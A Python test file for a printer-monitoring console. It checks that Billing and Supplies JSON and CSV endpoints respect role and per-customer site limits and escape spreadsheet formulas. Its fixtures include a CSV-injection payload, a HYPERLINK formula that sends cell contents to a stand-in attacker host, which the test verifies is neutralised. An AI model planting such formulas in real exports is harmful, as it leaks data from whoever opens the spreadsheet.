"""The console's Billing and Supplies pages are also a JSON API and a CSV download, as Sites and
Devices are, answered by the API's own code (the same rows, the same role checks), over real
HTTPS on both backends. The attacks: another role, another customer's site, no credential, a
formula a hostile printer reports as its serial or model, each asked through ``.json`` and
``.csv`` as well as through the page."""

from __future__ import annotations

import csv
import datetime as dt
import io
import ssl
from pathlib import Path

import httpx
import pytest
import trio
from printwatch.collector import supplies
from printwatch.collector.console.billing import COLUMNS
from printwatch.collector.store import CollectorStore
from printwatch.collector.tokens import create_token
from printwatch.collector.users import add_user

from tests.support.collector import FedSite, start_collector
from tests.support.console import FAST, PASSWORD, log_in
from tests.support.tls import make_certs

pytestmark = pytest.mark.realtime

NOW = dt.datetime(2026, 11, 3, 9, 0)
CYCLE = "2026-11-01"
LAYOUT = [[1, "toner", "black", "Black Toner"]]
FORMULA_MODEL = '=HYPERLINK("https://evil.example/?"&A1,"click")'
FORMULA_SERIAL = "@SUM(1+1)"


def feed(store: CollectorStore) -> None:
    """Two sites of two printers; the first printer reports a formula as its model and serial,
    has its cycle's read and a supply low; the second's read is missing."""
    for name in ("site-a", "site-b"):
        site = FedSite(store, name)
        devices = [
            {"n": 1, "serial": FORMULA_SERIAL, "vendor": "HP", "model": FORMULA_MODEL, "supplies": LAYOUT},
            {"n": 2, "serial": f"{name}-S2", "vendor": "HP", "model": "M404", "supplies": LAYOUT},
        ]
        site.send("register", {"devices": devices}, NOW - dt.timedelta(days=40))
        site.send("billing", {"cycle": CYCLE, "r": [[1, {"total": 100}]]}, dt.datetime(2026, 11, 1, 1))
        site.send("reorder", {"t": [[1, 1, 12.0, "low", 6.0]]}, dt.datetime(2026, 11, 2, 1))
    supplies.refresh(store)  # as the upload handler does after a reorder (FedSite skips HTTP)


def table(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, (response.request.url, response.status_code, response.text[:200])
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_billing_and_supplies_answer_json_and_csv_as_the_api_does_by_role(
    tmp_path: Path, collector_store: str | Path, nursery: trio.Nursery
) -> None:
    certs = make_certs(tmp_path)
    store = CollectorStore(collector_store)
    feed(store)
    for user, role, sites in [
        ("bea", "billing", []), ("dee", "supplies", []), ("vic", "viewer", []),
        ("cus", "customer", ["site-b"]),
    ]:  # fmt: skip
        add_user(store, user, PASSWORD, role, sites=sites, now=NOW, password_hash=FAST)
    customer_token = create_token(store, "customer b erp", "customer", sites=["site-b"], now=NOW)
    collector = await start_collector(nursery, store, certs, now=lambda: NOW)
    context = ssl.create_default_context(cafile=str(certs.ca_file))

    def browser(headers: dict[str, str] | None = None) -> httpx.AsyncClient:
        return httpx.AsyncClient(base_url=collector.url, verify=context, timeout=30.0, headers=headers)

    # The billing clerk: each billing page as JSON and CSV, the same rows as the API's.
    async with browser() as c:
        csrf = await log_in(c, "bea")
        overview = await c.get("/console/billing.json")
        assert overview.headers["x-total-count"] == "2" and [r["site"] for r in overview.json()] == [
            "site-a",
            "site-b",
        ]
        api_cycles = (await c.get("/api/billing/site-a/cycles")).json()
        assert overview.json()[0] == next(r for r in api_cycles if r["current"])
        assert overview.json()[0]["missing"] == 1 and overview.json()[0]["read"] == 1
        listed = table(await c.get("/console/billing.csv"))
        assert list(listed[0]) == list(COLUMNS) and [r["site"] for r in listed] == ["site-a", "site-b"]
        assert listed[0]["missing"] == "1" and listed[0]["cycle"] == CYCLE
        assert (await c.get("/console/billing/site-a.json")).json() == api_cycles
        assert [r["cycle"] for r in table(await c.get("/console/billing/site-a.csv"))] == [
            r["cycle"] for r in api_cycles
        ]
        one = await c.get(f"/console/billing/site-a/{CYCLE}.json")
        assert one.json() == (await c.get(f"/api/billing/site-a/{CYCLE}")).json()
        assert [m["n"] for m in one.json()["missing"]] == [2]
        export = await c.get(f"/console/billing/site-a/{CYCLE}.csv?unmapped=1")
        assert export.text == (await c.get(f"/api/billing/site-a/{CYCLE}/export.csv?unmapped=1")).text
        [row] = table(export)
        assert (row["serial"], row["model"], row["value"]) == (
            "'" + FORMULA_SERIAL,
            "'" + FORMULA_MODEL,
            "100",
        )
        assert (await c.get("/console/billing/site-a/2026-13-45.json")).status_code == 400
        for answer in (overview, one):
            assert csrf not in answer.text  # a form's token is the page's alone
        for path in ("/console/supplies.json", "/console/supplies.csv"):  # not the billing role's
            refused = await c.get(path)
            assert refused.status_code == 403 and "site-a" not in refused.text, path

    # The supplies desk: the queue as the API gives it; the billing pages are not its.
    async with browser() as c:
        await log_in(c, "dee")
        queue = await c.get("/console/supplies.json")
        assert queue.json() == (await c.get("/api/supplies")).json()
        assert queue.headers["x-total-count"] == "2" and len(queue.json()) == 2
        rows = table(await c.get("/console/supplies.csv"))
        assert rows == table(await c.get("/api/supplies.csv"))
        assert {(r["site"], r["serial"], r["model"]) for r in rows} == {
            (site, "'" + FORMULA_SERIAL, "'" + FORMULA_MODEL) for site in ("site-a", "site-b")
        }
        assert table(await c.get("/console/supplies.csv?state=installed")) == []
        for path in (
            "/console/billing.json", "/console/billing.csv", "/console/billing/site-a.json",
            "/console/billing/site-a.csv", f"/console/billing/site-a/{CYCLE}.json",
            f"/console/billing/site-a/{CYCLE}.csv",
        ):  # fmt: skip
            refused = await c.get(path)
            assert refused.status_code == 403 and "HYPERLINK" not in refused.text, path

    # A customer: its own site through every form; another's is a 404 as one that does not exist.
    async with browser() as c:
        await log_in(c, "cus")
        assert [r["site"] for r in (await c.get("/console/billing.json")).json()] == ["site-b"]
        assert [r["site"] for r in table(await c.get("/console/billing.csv"))] == ["site-b"]
        assert {o["site"] for o in (await c.get("/console/supplies.json")).json()} == {"site-b"}
        assert {r["site"] for r in table(await c.get("/console/supplies.csv"))} == {"site-b"}
        assert table(await c.get("/console/supplies.csv?site=site-a")) == []
        assert (await c.get("/console/supplies.json?site=site-a")).json() == []
        assert (await c.get(f"/console/billing/site-b/{CYCLE}.json")).json()["site"] == "site-b"
        for site in ("site-a", "site-nope"):
            for path in (
                f"/console/billing/{site}.json", f"/console/billing/{site}.csv",
                f"/console/billing/{site}/{CYCLE}.json", f"/console/billing/{site}/{CYCLE}.csv",
            ):  # fmt: skip
                hidden = await c.get(path)
                assert hidden.status_code == 404 and hidden.json() == {"error": f"no site {site!r}"}, path
        closing = await c.post(f"/console/billing/site-b/{CYCLE}/close", data={"csrf": "x"})
        assert closing.status_code == 403
    async with browser({"Authorization": f"Bearer {customer_token}"}) as c:  # its ERP's token
        assert {r["site"] for r in table(await c.get("/console/supplies.csv"))} == {"site-b"}
        assert [r["site"] for r in table(await c.get("/console/billing.csv"))] == ["site-b"]
        assert (await c.get("/console/billing/site-a.csv")).status_code == 404

    # A viewer reads every site but moves nothing: its JSON holds no form and no token.
    async with browser() as c:
        csrf = await log_in(c, "vic")
        viewed = await c.get(f"/console/billing/site-a/{CYCLE}.json")
        assert viewed.status_code == 200 and csrf not in viewed.text
        closing = await c.post(f"/console/billing/site-a/{CYCLE}/close", data={"csrf": csrf})
        assert closing.status_code == 403
        key = (await c.get("/console/supplies.json")).json()[0]
        moving = await c.post(
            f"/console/supplies/{key['site']}/{key['n']}/{key['supply_index']}/{key['opened_seq']}",
            data={"csrf": csrf, "state": "ordered"},
        )
        assert moving.status_code == 403

    # Nobody logged in: 401 for the JSON and the CSV (not a login page to parse).
    async with browser() as c:
        for path in ("/console/billing.json", "/console/billing.csv", "/console/supplies.csv"):
            anonymous = await c.get(path)
            assert anonymous.status_code == 401 and anonymous.json()["error"], path
    await collector.stop()
    store.close()
